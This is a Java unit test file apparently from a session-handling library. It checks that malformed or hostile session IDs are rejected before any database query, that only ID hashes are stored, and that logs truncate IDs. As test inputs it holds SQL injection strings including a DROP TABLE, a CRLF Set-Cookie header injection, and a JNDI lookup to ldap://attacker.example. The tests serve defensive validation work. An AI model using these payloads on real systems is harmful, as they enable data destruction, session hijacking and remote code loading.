package dev.tether.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;

import jakarta.inject.Inject;

import org.jboss.weld.junit5.EnableWeld;
import org.jboss.weld.junit5.WeldInitiator;
import org.jboss.weld.junit5.WeldSetup;
import org.junit.jupiter.api.Test;

import dev.tether.fixtures.Counter;
import dev.tether.context.SessionIds;
import dev.tether.support.CapturedLog;
import dev.tether.support.TestStorage;
import dev.tether.support.TetherWeld;
import dev.tether.support.Units;

/**
 * Whatever a client presents as its session ID, a malformed one gets a fresh session with a new ID and
 * never reaches the database: no SELECT is run for it. A real ID is never stored, only its hash, and a log
 * line shows no more than its first 6 characters.
 */
@EnableWeld
class HostileIdTest {

    @WeldSetup
    WeldInitiator weld = TetherWeld.withBeans();

    @Inject
    Units units;
    @Inject
    Counter counter;
    @Inject
    TestStorage storage;

    /** Presents {@code raw} and uses a bean; returns how many SELECTs that ran, after checking the fresh session. */
    private long selectsForPresenting(String raw) {
        storage.statements().reset();

        Units.Result<Integer> result = units.run(raw, () -> counter.increment());

        assertThat(result.value()).as("a fresh bean").isEqualTo(1);
        assertThat(result.sentId()).isNotEqualTo(raw).satisfies(id -> assertThat(SessionIds.isWellFormed(id)).isTrue());
        return storage.statements().countStartingWith("SELECT");
    }

    private static String padded(String start) {
        return (start + "A".repeat(SessionIds.LENGTH)).substring(0, SessionIds.LENGTH);
    }

    @Test
    void aWellFormedUnknownIdIsLookedUpOnceAndNotAdopted() {
        assertThat(selectsForPresenting(padded("unknown"))).isEqualTo(1);
    }

    @Test
    void anOverLongIdNeverReachesTheDatabase() {
        assertThat(selectsForPresenting("A".repeat(10_000))).isZero();
    }

    @Test
    void anIdOneCharacterTooLongOrTooShortNeverReachesTheDatabase() {
        assertThat(selectsForPresenting("A".repeat(SessionIds.LENGTH + 1))).isZero();
        assertThat(selectsForPresenting("A".repeat(SessionIds.LENGTH - 1))).isZero();
    }

    @Test
    void anEmptyIdNeverReachesTheDatabase() {
        assertThat(selectsForPresenting("")).isZero();
    }

    @Test
    void nonAsciiCharactersNeverReachTheDatabase() {
        assertThat(selectsForPresenting("é".repeat(SessionIds.LENGTH))).isZero();
        assertThat(selectsForPresenting(padded("\uD83D\uDE00"))).isZero();
    }

    @Test
    void controlCharactersNeverReachTheDatabase() {
        assertThat(selectsForPresenting(padded("\u0000"))).isZero();
        assertThat(selectsForPresenting(padded("\r\nSet-Cookie: SESSION_ID=x"))).isZero();
    }

    @Test
    void sqlMetaCharactersNeverReachTheDatabase() {
        assertThat(selectsForPresenting(padded("' OR '1'='1' --"))).isZero();
        assertThat(selectsForPresenting(padded("x'; DROP TABLE tether_session; --"))).isZero();
    }

    @Test
    void standardBase64WithPlusSlashAndPaddingNeverReachesTheDatabase() {
        assertThat(selectsForPresenting(padded("ab+cd/ef=="))).isZero();
    }

    @Test
    void expressionAndLookupSyntaxNeverReachesTheDatabase() {
        assertThat(selectsForPresenting(padded("${jndi:ldap://attacker.example/x}"))).isZero();
    }

    @Test
    void onlyTheHashOfAnIdIsStored() throws SQLException {
        String id = units.run(null, () -> counter.increment()).sentId();

        assertThat(column("SELECT id_hash FROM tether_session")).containsExactly(SessionIds.hash(id));
        assertThat(everyValueOf("tether_session")).noneMatch(value -> value.contains(id));
        assertThat(everyValueOf("tether_bean")).noneMatch(value -> value.contains(id));
    }

    @Test
    void aLogLineShowsNoMoreThanTheFirstSixCharactersOfTheId() throws SQLException {
        String id = units.run(null, () -> counter.increment()).sentId();
        try (Connection c = storage.uncounted().getConnection();
             PreparedStatement update = c.prepareStatement("UPDATE tether_bean SET state_bytes = ?")) {
            update.setBytes(1, new byte[] {(byte) 0xAC, (byte) 0xED, 0, 5, 1, 2, 3});
            update.executeUpdate();
        }

        try (CapturedLog log = CapturedLog.of("dev.tether")) {
            units.run(id, () -> counter.increment());

            assertThat(log.warnings()).as("the unreadable state's warning").isNotEmpty()
                    .anyMatch(line -> line.contains(id.substring(0, 6)));
            List<String> sevenCharacters = IntStream.rangeClosed(0, id.length() - 7)
                    .mapToObj(at -> id.substring(at, at + 7)).toList();
            assertThat(log.warnings()).allSatisfy(line -> assertThat(sevenCharacters).noneMatch(line::contains));
        }
    }

    private List<String> column(String query) throws SQLException {
        try (Connection c = storage.uncounted().getConnection();
             ResultSet rows = c.prepareStatement(query).executeQuery()) {
            List<String> values = new ArrayList<>();
            while (rows.next()) {
                values.add(rows.getString(1));
            }
            return values;
        }
    }

    /** Every column of every row of the table, as text (bytes decoded as ISO-8859-1, so any ASCII ID shows). */
    private List<String> everyValueOf(String table) throws SQLException {
        try (Connection c = storage.uncounted().getConnection();
             ResultSet rows = c.prepareStatement("SELECT * FROM " + table).executeQuery()) {
            List<String> values = new ArrayList<>();
            while (rows.next()) {
                for (int column = 1; column <= rows.getMetaData().getColumnCount(); column++) {
                    byte[] bytes = rows.getBytes(column);
                    if (bytes != null) {
                        values.add(new String(bytes, java.nio.charset.StandardCharsets.ISO_8859_1));
                        values.add(String.valueOf(rows.getString(column)));
                    }
                }
            }
            return values;
        }
    }
}
